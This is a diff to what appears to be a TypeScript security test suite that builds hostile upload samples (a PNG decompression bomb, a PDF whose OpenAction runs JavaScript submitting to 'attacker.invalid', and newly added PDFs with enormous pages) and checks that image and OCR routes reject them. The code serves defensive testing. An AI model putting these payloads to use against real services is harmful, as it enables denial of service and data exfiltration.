@@ -39,7 +39,8 @@ export type BadKind =
   | "injection"
   | "malformed_json"
   | "malformed_multipart"
-  | "compute_bomb";
+  | "compute_bomb"
+  | "pdf_huge_page";
 
 /** 10 MiB, the documented MAX_IMAGE_SIZE. */
 export const MAX_IMAGE_SIZE = 10 * 1024 * 1024;
@@ -66,6 +67,8 @@ export interface Samples {
   bomb: Uint8Array;
   pdfJavascript: Uint8Array;
   pdf1000: Uint8Array;
+  /** One page of 14 400 pt square (5 m), and one of 1 000 000 pt. */
+  pdfHugePages: [number, Uint8Array][];
 }
 
 export async function makeSamples(): Promise<Samples> {
@@ -83,6 +86,7 @@ export async function makeSamples(): Promise<Samples> {
     bomb: await makePngBomb(30_000, 30_000),
     pdfJavascript: makePdf(1, true),
     pdf1000: makePdf(1000, false),
+    pdfHugePages: [14_400, 1_000_000].map((side) => [side, makePdf(1, false, [side, side])]),
   };
 }
 
@@ -90,7 +94,11 @@ export async function makeSamples(): Promise<Samples> {
  * A small valid PDF with `pages` pages (each a grey rectangle); `javascript` adds an
  * OpenAction that runs JavaScript in a viewer that allows it (the services must not).
  */
-export function makePdf(pages: number, javascript: boolean): Uint8Array {
+export function makePdf(
+  pages: number,
+  javascript: boolean,
+  [width, height]: [number, number] = [200, 100],
+): Uint8Array {
   const objects: string[] = [];
   const pageIds = Array.from({ length: pages }, (_, i) => 5 + i);
   const content = "0.3 g 20 20 160 60 re f";
@@ -101,7 +109,8 @@ export function makePdf(pages: number, javascript: boolean): Uint8Array {
     ? "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://attacker.invalid/'\\);) >>"
     : "<< >>";
   for (const id of pageIds)
-    objects[id] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 3 0 R >>";
+    objects[id] =
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents 3 0 R >>`;
   let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
   const offsets: number[] = [];
   for (let id = 1; id < objects.length; id++) {
@@ -183,6 +192,12 @@ const RESTRICTED_FIELDS: Record<PhaseServiceName, string[]> = {
   ocr_extractor: ["document_type", "confidence_threshold"],
 };
 
+/** Whether a route renders PDFs (the others refuse them: 415). */
+function rendersPdf(target: BadInput["target"], path: string): boolean {
+  if (target === "image_processor" || target === "ocr_extractor") return true;
+  return target === "gateway" && /^\/(process|image-processor|ocr-extractor)\b/.test(path);
+}
+
 /**
  * Upload-route cases for one route (a phase service's, or the gateway's proxy of it).
  * `target` names who answers; `path` and `fields` the route.
@@ -254,6 +269,16 @@ export function uploadCases(
       "PDF with 1000 pages",
       form({ bytes: s.pdf1000, name: "long.pdf", type: "application/pdf" }, fields),
       [200, 413, 415, 422],
+    ),
+    // A page no resolution fits within the pixel limit (issue 25, finding 8): refused with the
+    // same 413 wherever PDFs are rendered; 415 where they are not accepted.
+    ...s.pdfHugePages.map(([side, bytes]) =>
+      post(
+        "pdf_huge_page",
+        `PDF page of ${side} × ${side} pt`,
+        form({ bytes, name: "huge.pdf", type: "application/pdf" }, fields),
+        [rendersPdf(target, path) ? 413 : 415],
+      ),
     ),
     post(
       "polyglot",
